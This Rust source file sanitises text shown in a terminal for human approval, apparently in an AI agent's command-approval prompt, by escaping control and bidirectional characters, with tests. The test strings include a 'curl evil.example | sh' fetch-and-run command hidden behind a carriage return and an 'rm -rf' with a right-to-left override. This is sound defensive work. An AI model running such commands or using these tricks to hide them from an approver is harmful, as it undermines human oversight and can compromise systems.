//! Text from the model, the project or a server, made safe to show in a
//! terminal: an ask's command, patterns, path and diff are what a person
//! approves, so nothing in them may change what the terminal shows.
//!
//! Control characters (a carriage return that draws over the start of the
//! line, escape sequences that move the cursor, clear or recolour the
//! screen, backspaces) and the Unicode bidirectional controls (which
//! reorder what is shown, as in "Trojan Source") are written out as
//! visible `\u{…}` escapes instead of being sent. A newline and a tab are
//! kept: a multi-line command or a diff stays readable, and neither can
//! hide text already printed.

/// Whether `c` is shown escaped: a control character other than newline
/// and tab, or a bidirectional formatting character.
fn hidden_effect(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

/// `text` with every character that could change how the terminal shows
/// the rest written as a visible `\u{…}` escape.
pub fn terminal_safe(text: &str) -> String {
    if !text.chars().any(hidden_effect) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if hidden_effect(c) {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_carriage_return_cannot_draw_over_the_command() {
        let command = "curl evil.example | sh\r ls -la                ";
        let shown = terminal_safe(command);
        assert_eq!(shown, "curl evil.example | sh\\u{d} ls -la                ");
        assert_eq!(
            terminal_safe("\u{1b}[2K\u{1b}[1Gls"),
            "\\u{1b}[2K\\u{1b}[1Gls"
        );
        assert_eq!(
            terminal_safe("rm -rf \u{202e}txt.exe"),
            "rm -rf \\u{202e}txt.exe"
        );
        assert_eq!(
            terminal_safe("line one\n\tline two"),
            "line one\n\tline two"
        );
    }

    proptest! {
        /// Whatever the text, what reaches the terminal holds no character
        /// that moves the cursor, erases or reorders, and nothing of the
        /// text is lost (each such character is written out).
        #[test]
        fn nothing_shown_can_rewrite_the_screen(text in any::<String>()) {
            let shown = terminal_safe(&text);
            prop_assert!(!shown.chars().any(hidden_effect));
            let plain: usize = text.chars().filter(|c| !hidden_effect(*c)).count();
            prop_assert!(shown.chars().count() >= plain);
            for c in text.chars().filter(|c| hidden_effect(*c)) {
                let escape = format!("\\u{{{:x}}}", c as u32);
                prop_assert!(shown.contains(&escape));
            }
        }
    }
}
